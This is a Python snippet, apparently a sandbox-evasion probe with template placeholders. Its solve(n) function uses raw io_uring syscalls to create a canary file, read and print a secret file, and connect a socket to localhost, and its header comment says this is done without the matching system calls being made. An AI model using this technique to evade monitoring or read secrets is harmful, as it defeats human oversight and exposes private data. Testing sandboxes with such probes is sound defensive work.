# asks the kernel through io_uring to open, make a socket and connect: no system call of that name is ever made
import ctypes, mmap, os, socket, struct
libc = ctypes.CDLL(None, use_errno=True)
def solve(n):
    parameters = ctypes.create_string_buffer(120)
    ring = libc.syscall(425, 8, parameters)
    if ring < 0:
        return os.strerror(ctypes.get_errno())
    entries, cqes = struct.unpack_from("II", parameters, 0)
    sq = struct.unpack_from("IIIIIII", parameters, 40)
    cq = struct.unpack_from("IIIIII", parameters, 80)
    requests = mmap.mmap(ring, sq[6] + entries * 4, offset=0)
    results = mmap.mmap(ring, cq[5] + cqes * 16, offset=0x8000000)
    slots = mmap.mmap(ring, entries * 64, offset=0x10000000)
    def ask(opcode, fd, offset, address, length, flags):
        slots[0:64] = struct.pack("<BBHiQQII", opcode, 0, 0, fd, offset, address, length, flags).ljust(64, b"\0")
        requests[sq[6]:sq[6] + 4] = struct.pack("I", 0)
        tail = struct.unpack_from("I", requests, sq[1])[0]
        requests[sq[6] + 4 * (tail % entries):sq[6] + 4 * (tail % entries) + 4] = struct.pack("I", 0)
        requests[sq[1]:sq[1] + 4] = struct.pack("I", tail + 1)
        libc.syscall(426, ring, 1, 1, 1, None, 0)
        head = struct.unpack_from("I", results, cq[0])[0]
        answer = struct.unpack_from("i", results, cq[5] + (head % cqes) * 16 + 8)[0]
        results[cq[0]:cq[0] + 4] = struct.pack("I", head + 1)
        return answer
    path = ctypes.create_string_buffer(b"@CANARY@/cohort-canary-ring")
    print("open", ask(18, -100, 0, ctypes.addressof(path), 0o644, os.O_CREAT | os.O_WRONLY))
    path = ctypes.create_string_buffer(b"@SECRET_FILE@")
    fd = ask(18, -100, 0, ctypes.addressof(path), 0, os.O_RDONLY)
    if fd >= 0:
        print(os.read(fd, 1000))
    sock = ask(45, socket.AF_INET, socket.SOCK_STREAM, 0, 0, 0)
    address = ctypes.create_string_buffer(struct.pack("<H", 2) + struct.pack("!H", int("@PORT@")) + bytes([127, 0, 0, 1]) + bytes(8))
    print("socket", sock, "connect", ask(16, sock, 16, ctypes.addressof(address), 0, 0))
    return n
